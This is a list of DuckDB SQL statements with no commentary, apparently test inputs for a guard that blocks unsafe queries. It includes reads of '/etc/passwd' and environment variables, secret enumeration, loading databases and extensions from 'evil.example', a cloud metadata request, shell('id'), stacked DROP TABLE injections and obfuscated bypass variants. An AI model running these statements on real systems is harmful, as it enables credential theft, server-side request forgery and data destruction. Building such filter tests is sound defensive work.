INSERT INTO customers (id) VALUES (99)

UPDATE orders SET total = 0

DELETE FROM orders

TRUNCATE orders

DROP TABLE orders

CREATE TABLE evil AS SELECT 1

CREATE OR REPLACE TABLE orders AS SELECT 1

CREATE MACRO f(a) AS a

CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')

ALTER TABLE orders ADD COLUMN x INTEGER

COPY orders TO '/tmp/x.csv'

COPY (SELECT 1) TO '/tmp/x.parquet' (FORMAT parquet)

COPY orders FROM '/etc/passwd'

COPY FROM DATABASE a TO b

EXPORT DATABASE '/tmp/x'

IMPORT DATABASE '/tmp/x'

ATTACH '/tmp/evil.db' AS evil

ATTACH 'https://evil.example/x.db'

DETACH h

USE memory

INSTALL httpfs

LOAD httpfs

FORCE INSTALL spatial FROM 'http://evil.example'

UPDATE EXTENSIONS

SET enable_external_access = true

SET VARIABLE a = 1

RESET ALL

PRAGMA enable_profiling

PRAGMA profiling_output = '/tmp/x'

PRAGMA memory_limit = '100GB'

PRAGMA import_database('/tmp/x')

PRAGMA copy_database(a, b)

PRAGMA force_checkpoint

PRAGMA database_list

PRAGMA table_info('orders'); DELETE FROM orders

PRAGMA json_execute_serialized_sql('{}')

CALL force_checkpoint()

CALL pragma_version()

CHECKPOINT

VACUUM

ANALYZE

BEGIN

COMMIT

PREPARE p AS SELECT 1

EXECUTE p

EXPLAIN ANALYZE DELETE FROM orders

EXPLAIN COPY orders TO '/tmp/x.csv'

EXPLAIN ANALYZE INSERT INTO orders (id) VALUES (1)

DESCRIBE '/etc/passwd'

DESCRIBE 'x.csv'

DESCRIBE "x.csv"

SUMMARIZE '/etc/passwd'

SUMMARIZE SELECT * FROM read_csv('/etc/passwd')

SHOW 'x.csv'

SELECT * FROM '/etc/passwd'

SELECT * FROM 'data.csv'

SELECT * FROM "data.csv"

SELECT * FROM data.csv

SELECT * FROM "/tmp/data.parquet"

SELECT * FROM 'https://evil.example/data.parquet'

FROM 'data.json'

FROM 's3://bucket/key'

SELECT * FROM orders, 'data.csv'

SELECT * FROM orders JOIN 'data.csv' d ON true

SELECT * FROM orders SEMI JOIN 'data.csv' USING (id)

SELECT * FROM orders POSITIONAL JOIN 'data.csv'

SELECT (SELECT count(*) FROM 'data.csv')

WITH a AS (FROM 'data.csv') SELECT * FROM a

TABLE 'data.csv'

PIVOT 'data.csv' ON x USING sum(y)

UNPIVOT 'data.csv' ON x, y

SELECT * FROM read_csv('/etc/passwd')

SELECT * FROM read_csv_auto('/etc/passwd')

FROM read_text('/etc/passwd')

FROM read_blob('/etc/passwd')

SELECT * FROM read_parquet(['a', 'b'])

SELECT * FROM parquet_scan('x')

SELECT * FROM parquet_metadata('x')

SELECT * FROM read_json('x'), read_json_auto('x'), read_ndjson('x'), read_json_objects('x')

SELECT * FROM main.read_csv('/etc/passwd')

SELECT * FROM "read_csv"('/etc/passwd')

SELECT * FROM READ_CSV ('/etc/passwd')

SELECT * FROM read_csv/* */('/etc/passwd')

SELECT * FROM orders, LATERAL read_csv('x')

SELECT * FROM glob('/etc/*')

SELECT * FROM sniff_csv('/etc/passwd')

SELECT * FROM read_duckdb('/tmp/x.db')

SELECT * FROM seq_scan('orders')

SELECT * FROM arrow_scan(1, 2, 3)

SELECT * FROM pandas_scan(1)

SELECT * FROM python_map_function(1)

SELECT * FROM query('DELETE FROM orders')

SELECT * FROM query_table('data.csv')

SELECT * FROM json_execute_serialized_sql('{}')

SELECT getenv('HOME')

'HOME'.getenv()

SELECT 'HOME'.getenv()

SELECT name.getenv() FROM customers

SELECT current_setting('home_directory')

SELECT getvariable('a')

SELECT nextval('s'), setval('s', 1)

SELECT setseed(0.1)

SELECT write_log('x')

SELECT sleep_ms(100000)

SELECT pg_sleep(10)

SELECT error('x')

SELECT * FROM duckdb_secrets()

SELECT * FROM duckdb_settings()

SELECT * FROM duckdb_settings

SELECT * FROM duckdb_logs

SELECT * FROM duckdb_databases()

SELECT * FROM duckdb_extensions()

SELECT * FROM duckdb_temporary_files()

SELECT * FROM which_secret('x', 's3')

SELECT * FROM checkpoint()

SELECT * FROM enable_logging()

SELECT * FROM pragma_user_agent()

SELECT http_get('http://169.254.169.254/')

SELECT shell('id')

SELECT * FROM sqlite_scan('x', 'y')

SELECT * FROM postgres_query('x', 'y')

SELECT * FROM st_read('x')

SELECT * FROM read_xlsx('x')

SELECT * FROM iceberg_scan('x')

SELECT * FROM my_macro(1)

SELECT 1; DELETE FROM orders

SELECT $$a$$; DROP TABLE orders

SELECT E'\''; DROP TABLE orders; --'

SELECT '\'; DROP TABLE orders; --'

SELECT * INTO evil FROM orders

SELECT * FROM orders FOR UPDATE

WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d

WITH a AS (SELECT 1) INSERT INTO orders (id) SELECT 1

SELECT $1

SELECT ?

SELECT * FROM (DELETE FROM orders) x

orders

1 + 1

SELECT {# x #} 1

SELECT list_transform([1], lambda x : getenv('HOME'))

SELECT COLUMNS(c -> getenv(c)) FROM orders

SELECT [getenv(x) FOR x IN ['HOME']]

SELECT * FROM ('data.csv')

SELECT * FROM (FROM 'data.csv')

SELECT * FROM orders WHERE id IN (FROM 'x.parquet')

FROM orders UNION FROM 'x.csv'

FROM (PIVOT 'x.csv' ON a USING sum(b))

FROM orders ASOF JOIN 'x.csv' USING (id)

FROM orders ANTI JOIN "x.csv" USING (id)

FROM x.csv

FROM a.b.parquet

FROM "x.CSV.GZ"

FROM 'file://x'

FROM E'x.csv'

FROM $$x.csv$$

SELECT * FROM E'\x41.csv'

DESCRIBE FROM 'x.csv'

DESCRIBE (FROM read_csv('x'))

SUMMARIZE FROM 'x.csv'

SUMMARIZE "x.parquet"

SUMMARIZE x.parquet

SHOW x.csv

SHOW TABLES FROM 'x'

EXPLAIN FROM 'x.csv'

EXPLAIN (FORMAT json) FROM read_csv('x')

EXPLAIN ANALYZE FROM glob('*')

SELECT unnest(glob('*'))

SELECT list_transform(['x'], x -> read_text(x))

SELECT ['HOME'].list_transform(lambda x : x.getenv())

SELECT COLUMNS(lambda c : getenv(c)) FROM orders

SELECT * REPLACE (getenv('x') AS total) FROM orders

PIVOT orders ON getenv('HOME') USING sum(total)

PIVOT (FROM 'x.csv') ON a USING sum(b)

SELECT * FROM orders USING SAMPLE 10 PERCENT (system, 3)

SELECT * FROM system(1)

SELECT * FROM reservoir(1)

FROM duckdb_logs

FROM duckdb_secrets

SELECT * FROM "duckdb_settings"

SELECT * FROM duckdb_external_file_cache()

FROM pragma_user_agent()

CALL duckdb_settings()

PRAGMA show('x.csv')

PRAGMA table_info(read_csv('x'))

PRAGMA version; ATTACH 'x'

SELECT 1; INSTALL httpfs

SET VARIABLE x = getenv('HOME')

SELECT getvariable('x')

SELECT current_setting('secret_directory')

SELECT query('x')

FROM query_table(['a','b'])

FROM main.query('SELECT 1')

FROM system.main.read_csv('x')

SELECT system.main.getenv('x')

SELECT getenv ('x')

SELECT "GETENV"('x')

SELECT 'x'."getenv"()

SELECT ('x').getenv()

SELECT {'a': getenv('x')}.a

SELECT MAP {getenv('x'): 1}

SELECT [x FOR x IN glob('*')]

SELECT try(getenv('x'))

SELECT CAST(getenv('x') AS VARCHAR)

SELECT 1 AS x, x.getenv() 

SELECT * FROM orders AT (VERSION => 1)

MERGE INTO orders USING customers ON true WHEN MATCHED THEN DELETE

WITH x AS (INSERT INTO orders SELECT 1 RETURNING *) FROM x

CREATE TEMP TABLE x AS FROM 'x.csv'

VALUES (getenv('x'))

TABLE x.csv

SELECT * FROM 'x' || '.csv'

FROM orders SELECT id INTO x

LOAD 'x'; SELECT 1

.read x

COPY (FROM 'x.csv') TO 'y'

SELECT * FROM read_csv_auto ('x')

SELECT `getenv`('x')

SELECT U&"getenv"('x')

SELECT * FROM pg_settings

SELECT setting FROM pg_catalog.pg_settings

SELECT statement FROM pg_prepared_statements

FROM (SUMMARIZE 'x.csv')

FROM (DESCRIBE 'x.csv')

SELECT column_name FROM (SUMMARIZE SELECT getenv('HOME'))
